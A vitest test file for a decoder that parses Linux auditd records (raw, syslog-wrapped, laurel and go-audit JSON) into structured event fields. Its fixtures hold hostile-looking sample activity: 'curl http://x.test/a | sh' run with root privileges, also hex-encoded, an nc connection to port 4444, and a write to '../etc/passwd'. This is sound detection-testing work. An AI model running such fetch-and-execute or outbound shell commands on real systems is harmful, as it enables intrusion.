import { expect, test } from "vitest";
import { detectFormat } from "../detect.ts";
import { formats } from "../registry.ts";

const known = await formats();
const context = { preamble: undefined, received: 1_700_000_000_000_000, peer: undefined, source: "s", stream: "audit.log" };

function decode(text: string, format = detectFormat(known, [text], undefined, "audit.log")) {
  const result = known.get(format)!.decoder(known.get(format)!.config.parse({}))(text, context);
  if (!("fields" in result)) throw new Error(JSON.stringify(result));
  return { ...result.fields } as { [name: string]: unknown };
}

const id = "msg=audit(1700000000.123:42):";
const shell = [
  `type=SYSCALL ${id} arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=8 items=2 ppid=100 pid=101 auid=1000 uid=1000 gid=1000 euid=0 tty=pts1 ses=3 comm="sh" exe="/usr/bin/dash" key=(null)\x1dARCH=x86_64 SYSCALL=execve AUID="ada" UID="ada" GID="ada" EUID="root"`,
  `type=EXECVE ${id} argc=3 a0="sh" a1="-c" a2=6375726C20687474703A2F2F782E746573742F61207C207368`,
  `type=CWD ${id} cwd="/tmp"`,
  `type=PATH ${id} item=0 name="/bin/sh" inode=1 nametype=NORMAL`,
  `type=PATH ${id} item=1 name="/lib64/ld-linux-x86-64.so.2" inode=2 nametype=NORMAL`,
  `type=PROCTITLE ${id} proctitle=7368002D63`,
];

const started = {
  "event.category": "process",
  "event.type": "start",
  "event.action": "execve",
  "process.executable": "/usr/bin/dash",
  "process.name": "sh",
  "process.args": ["sh", "-c", "curl http://x.test/a | sh"],
  "process.command_line": "sh -c curl http://x.test/a | sh",
  "process.working_directory": "/tmp",
  "process.pid": 101,
  "process.parent.pid": 100,
  "user.name": "ada",
  "user.effective.name": "root",
  "auditd.a0": "sh",
  "auditd.a1": "-c",
  "auditd.SYSCALL": "execve",
};

test("a program that was started: one event, with arguments where the pointers were", () => {
  const fields = decode(shell.join("\n"));
  expect(fields).toMatchObject({ ...started, "auditd.type": ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"], "user.audit.name": "ada" });
  expect(fields["file.path"]).toBeUndefined();
});

test("by syslog, each record with its own header", () => {
  const lines = shell.map((line, i) => `<13>Nov 14 22:13:2${i} login1 audispd[9]: node=login1 ${line}`);
  expect(decode(lines.join("\n"))).toMatchObject({ ...started, "host.name": "login1" });
  const newer = shell.map((line) => `<13>1 2023-11-14T22:13:20.5Z login1 auditd 9 - - ${line}`);
  expect(decode(newer.join("\n"))).toMatchObject({ ...started, "host.name": "login1" });
});

test("an address is decoded, of the far end that it is", () => {
  const call = (number: number, saddr: string) =>
    decode(
      `type=SYSCALL ${id} arch=c000003e syscall=${number} success=yes exit=0 a0=3 pid=7 comm="nc" exe="/usr/bin/nc"\ntype=SOCKADDR ${id} saddr=${saddr}`,
    );
  const v4 = { "event.category": "network", "destination.ip": "203.0.113.9", "destination.port": 4444, "network.direction": "egress" };
  expect(call(42, "0200115CCB007109 0000".replace(" ", ""))).toMatchObject(v4);
  expect(call(43, "0A00115C0000000020010DB800000000000000000000000100000000")).toMatchObject({
    "source.ip": "2001:db8::1",
    "network.direction": "ingress",
  });
  expect(call(42, "01002F7661722F72756E2F782E736F636B00")).toMatchObject({ "file.path": "/var/run/x.sock" });
  expect(call(42, "02")["destination.ip"]).toBeUndefined();
});

test("what is written to, renamed and removed", () => {
  const call = (rest: string, ...paths: string[]) =>
    decode(
      [`type=SYSCALL ${id} arch=c000003e ${rest} pid=7`, `type=CWD ${id} cwd="/root"`, ...paths.map((p) => `type=PATH ${id} ${p}`)].join(
        "\n",
      ),
    );
  const seen = ({ "event.type": type, "file.path": path, "event.action": action }: { [name: string]: unknown }) => [action, type, path];
  expect(seen(call("syscall=257 a2=80000", 'name="a" nametype=NORMAL'))).toEqual(["openat", "access", "/root/a"]);
  expect(seen(call("syscall=257 a2=80241", 'name="../etc/passwd" nametype=NORMAL'))).toEqual(["openat", "change", "/etc/passwd"]);
  expect(seen(call("syscall=87", 'name="/d/" nametype=PARENT', 'name="/d/x" nametype=DELETE'))).toEqual(["unlink", "deletion", "/d/x"]);
  expect(seen(call("syscall=82", 'name="/d/x" nametype=DELETE', 'name="/e/y" nametype=CREATE'))).toEqual([
    "rename",
    ["creation", "deletion", "change"],
    "/e/y",
  ]);
});

test("pieces of one long argument are one", () => {
  expect(decode(`type=EXECVE ${id} argc=2 a0="echo" a1_len=6 a1[0]=616263 a1[1]=646566`)).toMatchObject({
    "process.args": ["echo", "abcdef"],
    "auditd.a1": "abcdef",
  });
});

test("laurel's documents, with the parent it remembers", () => {
  const document = {
    ID: "1700000000.123:42",
    NODE: "login1",
    SYSCALL: {
      arch: "0xc000003e",
      syscall: 59,
      success: "yes",
      ppid: 100,
      pid: 101,
      uid: 1000,
      euid: 0,
      comm: "sh",
      exe: "/usr/bin/dash",
      ARCH: "x86_64",
      SYSCALL: "execve",
      UID: "ada",
      EUID: "root",
      PPID: { EVENT_ID: "1.0:1", comm: "bash", exe: "/usr/bin/bash" },
    },
    EXECVE: { argc: 3, ARGV: ["sh", "-c", "curl http://x.test/a | sh"] },
    CWD: { cwd: "/tmp" },
    PATH: [{ item: 0, name: "/bin/sh", nametype: "NORMAL" }],
    PARENT_INFO: { ARGV: ["bash", "-i"], ppid: 1 },
  };
  expect(decode(JSON.stringify(document), "json")).toMatchObject({
    ...started,
    "host.name": "login1",
    "auditd.type": ["SYSCALL", "EXECVE", "CWD", "PATH"],
    "process.parent.command_line": "bash -i",
    "process.parent.executable": "/usr/bin/bash",
  });
});

test("go-audit's documents", () => {
  const messages = shell.map((line) => {
    const type = { SYSCALL: 1300, EXECVE: 1309, CWD: 1307, PATH: 1302, PROCTITLE: 1327 }[/type=(\w+)/.exec(line)![1]!];
    return { type, data: line.slice(line.indexOf("): ") + 3) };
  });
  const document = { sequence: 42, timestamp: "1700000000.123", messages, uid_map: { "1000": "ada", "0": "root" } };
  expect(decode(JSON.stringify(document), "json")).toMatchObject({ ...started, "auditd.sequence": "42" });
});
